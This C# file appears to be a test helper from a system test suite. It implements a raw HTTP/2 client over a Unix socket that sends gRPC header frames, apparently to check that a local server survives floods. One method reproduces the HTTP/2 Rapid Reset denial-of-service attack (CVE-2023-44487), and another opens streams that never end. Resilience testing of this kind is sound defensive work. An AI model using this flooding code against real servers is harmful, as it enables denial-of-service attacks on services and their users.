using System.Buffers.Binary;
using System.Net.Sockets;
using System.Text;

namespace TimeSuite.System.Tests.Suite;

/// <summary>A client that speaks just enough HTTP/2 (RFC 9113) to misbehave in it.</summary>
internal sealed class RawHttp2 : IDisposable
{
    private const byte Headers = 1, ResetStream = 3, Settings = 4, EndHeaders = 4;
    private const uint Cancel = 8;

    private readonly Socket _socket = new(AddressFamily.Unix, SocketType.Stream, ProtocolType.Unspecified) { SendTimeout = 5_000 };
    private readonly byte[] _headers;
    private uint _stream = 1;

    /// <param name="path">Of the socket.</param>
    /// <param name="method">Of gRPC, e.g. /timesuite.clock.v1.Clock/Describe.</param>
    public RawHttp2(string path, string method)
    {
        _headers = Block(method);
        _socket.Connect(new UnixDomainSocketEndPoint(path));
        _socket.Send([.. "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8, .. Frame(Settings, 0, 0, [])]);
    }

    /// <summary>Opens streams and cancels each at once (CVE-2023-44487).</summary>
    /// <returns>How many were sent before the other side had enough.</returns>
    public int OpenAndCancel(int count)
    {
        for (int sent = 0; sent < count; sent++)
        {
            byte[] reset = new byte[4];
            BinaryPrimitives.WriteUInt32BigEndian(reset, Cancel);
            try
            {
                _socket.Send([.. Frame(Headers, EndHeaders, _stream, _headers), .. Frame(ResetStream, 0, _stream, reset)]);
            }
            catch (SocketException)
            {
                return sent;
            }

            _stream += 2;
        }

        return count;
    }

    /// <summary>Opens streams and never ends them.</summary>
    /// <returns>How many were sent before the other side had enough.</returns>
    public int Open(int count)
    {
        for (int sent = 0; sent < count; sent++)
        {
            try
            {
                _socket.Send(Frame(Headers, EndHeaders, _stream, _headers));
            }
            catch (SocketException)
            {
                return sent;
            }

            _stream += 2;
        }

        return count;
    }

    public void Dispose() => _socket.Dispose();

    private static byte[] Frame(byte type, byte flags, uint stream, byte[] payload)
    {
        byte[] frame = new byte[9 + payload.Length];
        BinaryPrimitives.WriteUInt32BigEndian(frame, (uint)payload.Length << 8 | type);
        frame[4] = flags;
        BinaryPrimitives.WriteUInt32BigEndian(frame.AsSpan(5), stream);
        payload.CopyTo(frame, 9);
        return frame;
    }

    /// <summary>HPACK without indexing (RFC 7541 section 6.2.2).</summary>
    private static byte[] Block(string method) =>
    [
        0x83, 0x86, // :method POST, :scheme http of the static table
        0x04, .. Text(method), // :path
        0x01, .. Text("localhost"), // :authority
        0x0F, 0x10, .. Text("application/grpc"), // content-type, entry 31
        0x00, .. Text("te"), .. Text("trailers"),
    ];

    private static byte[] Text(string text) => [(byte)text.Length, .. Encoding.ASCII.GetBytes(text)];
}
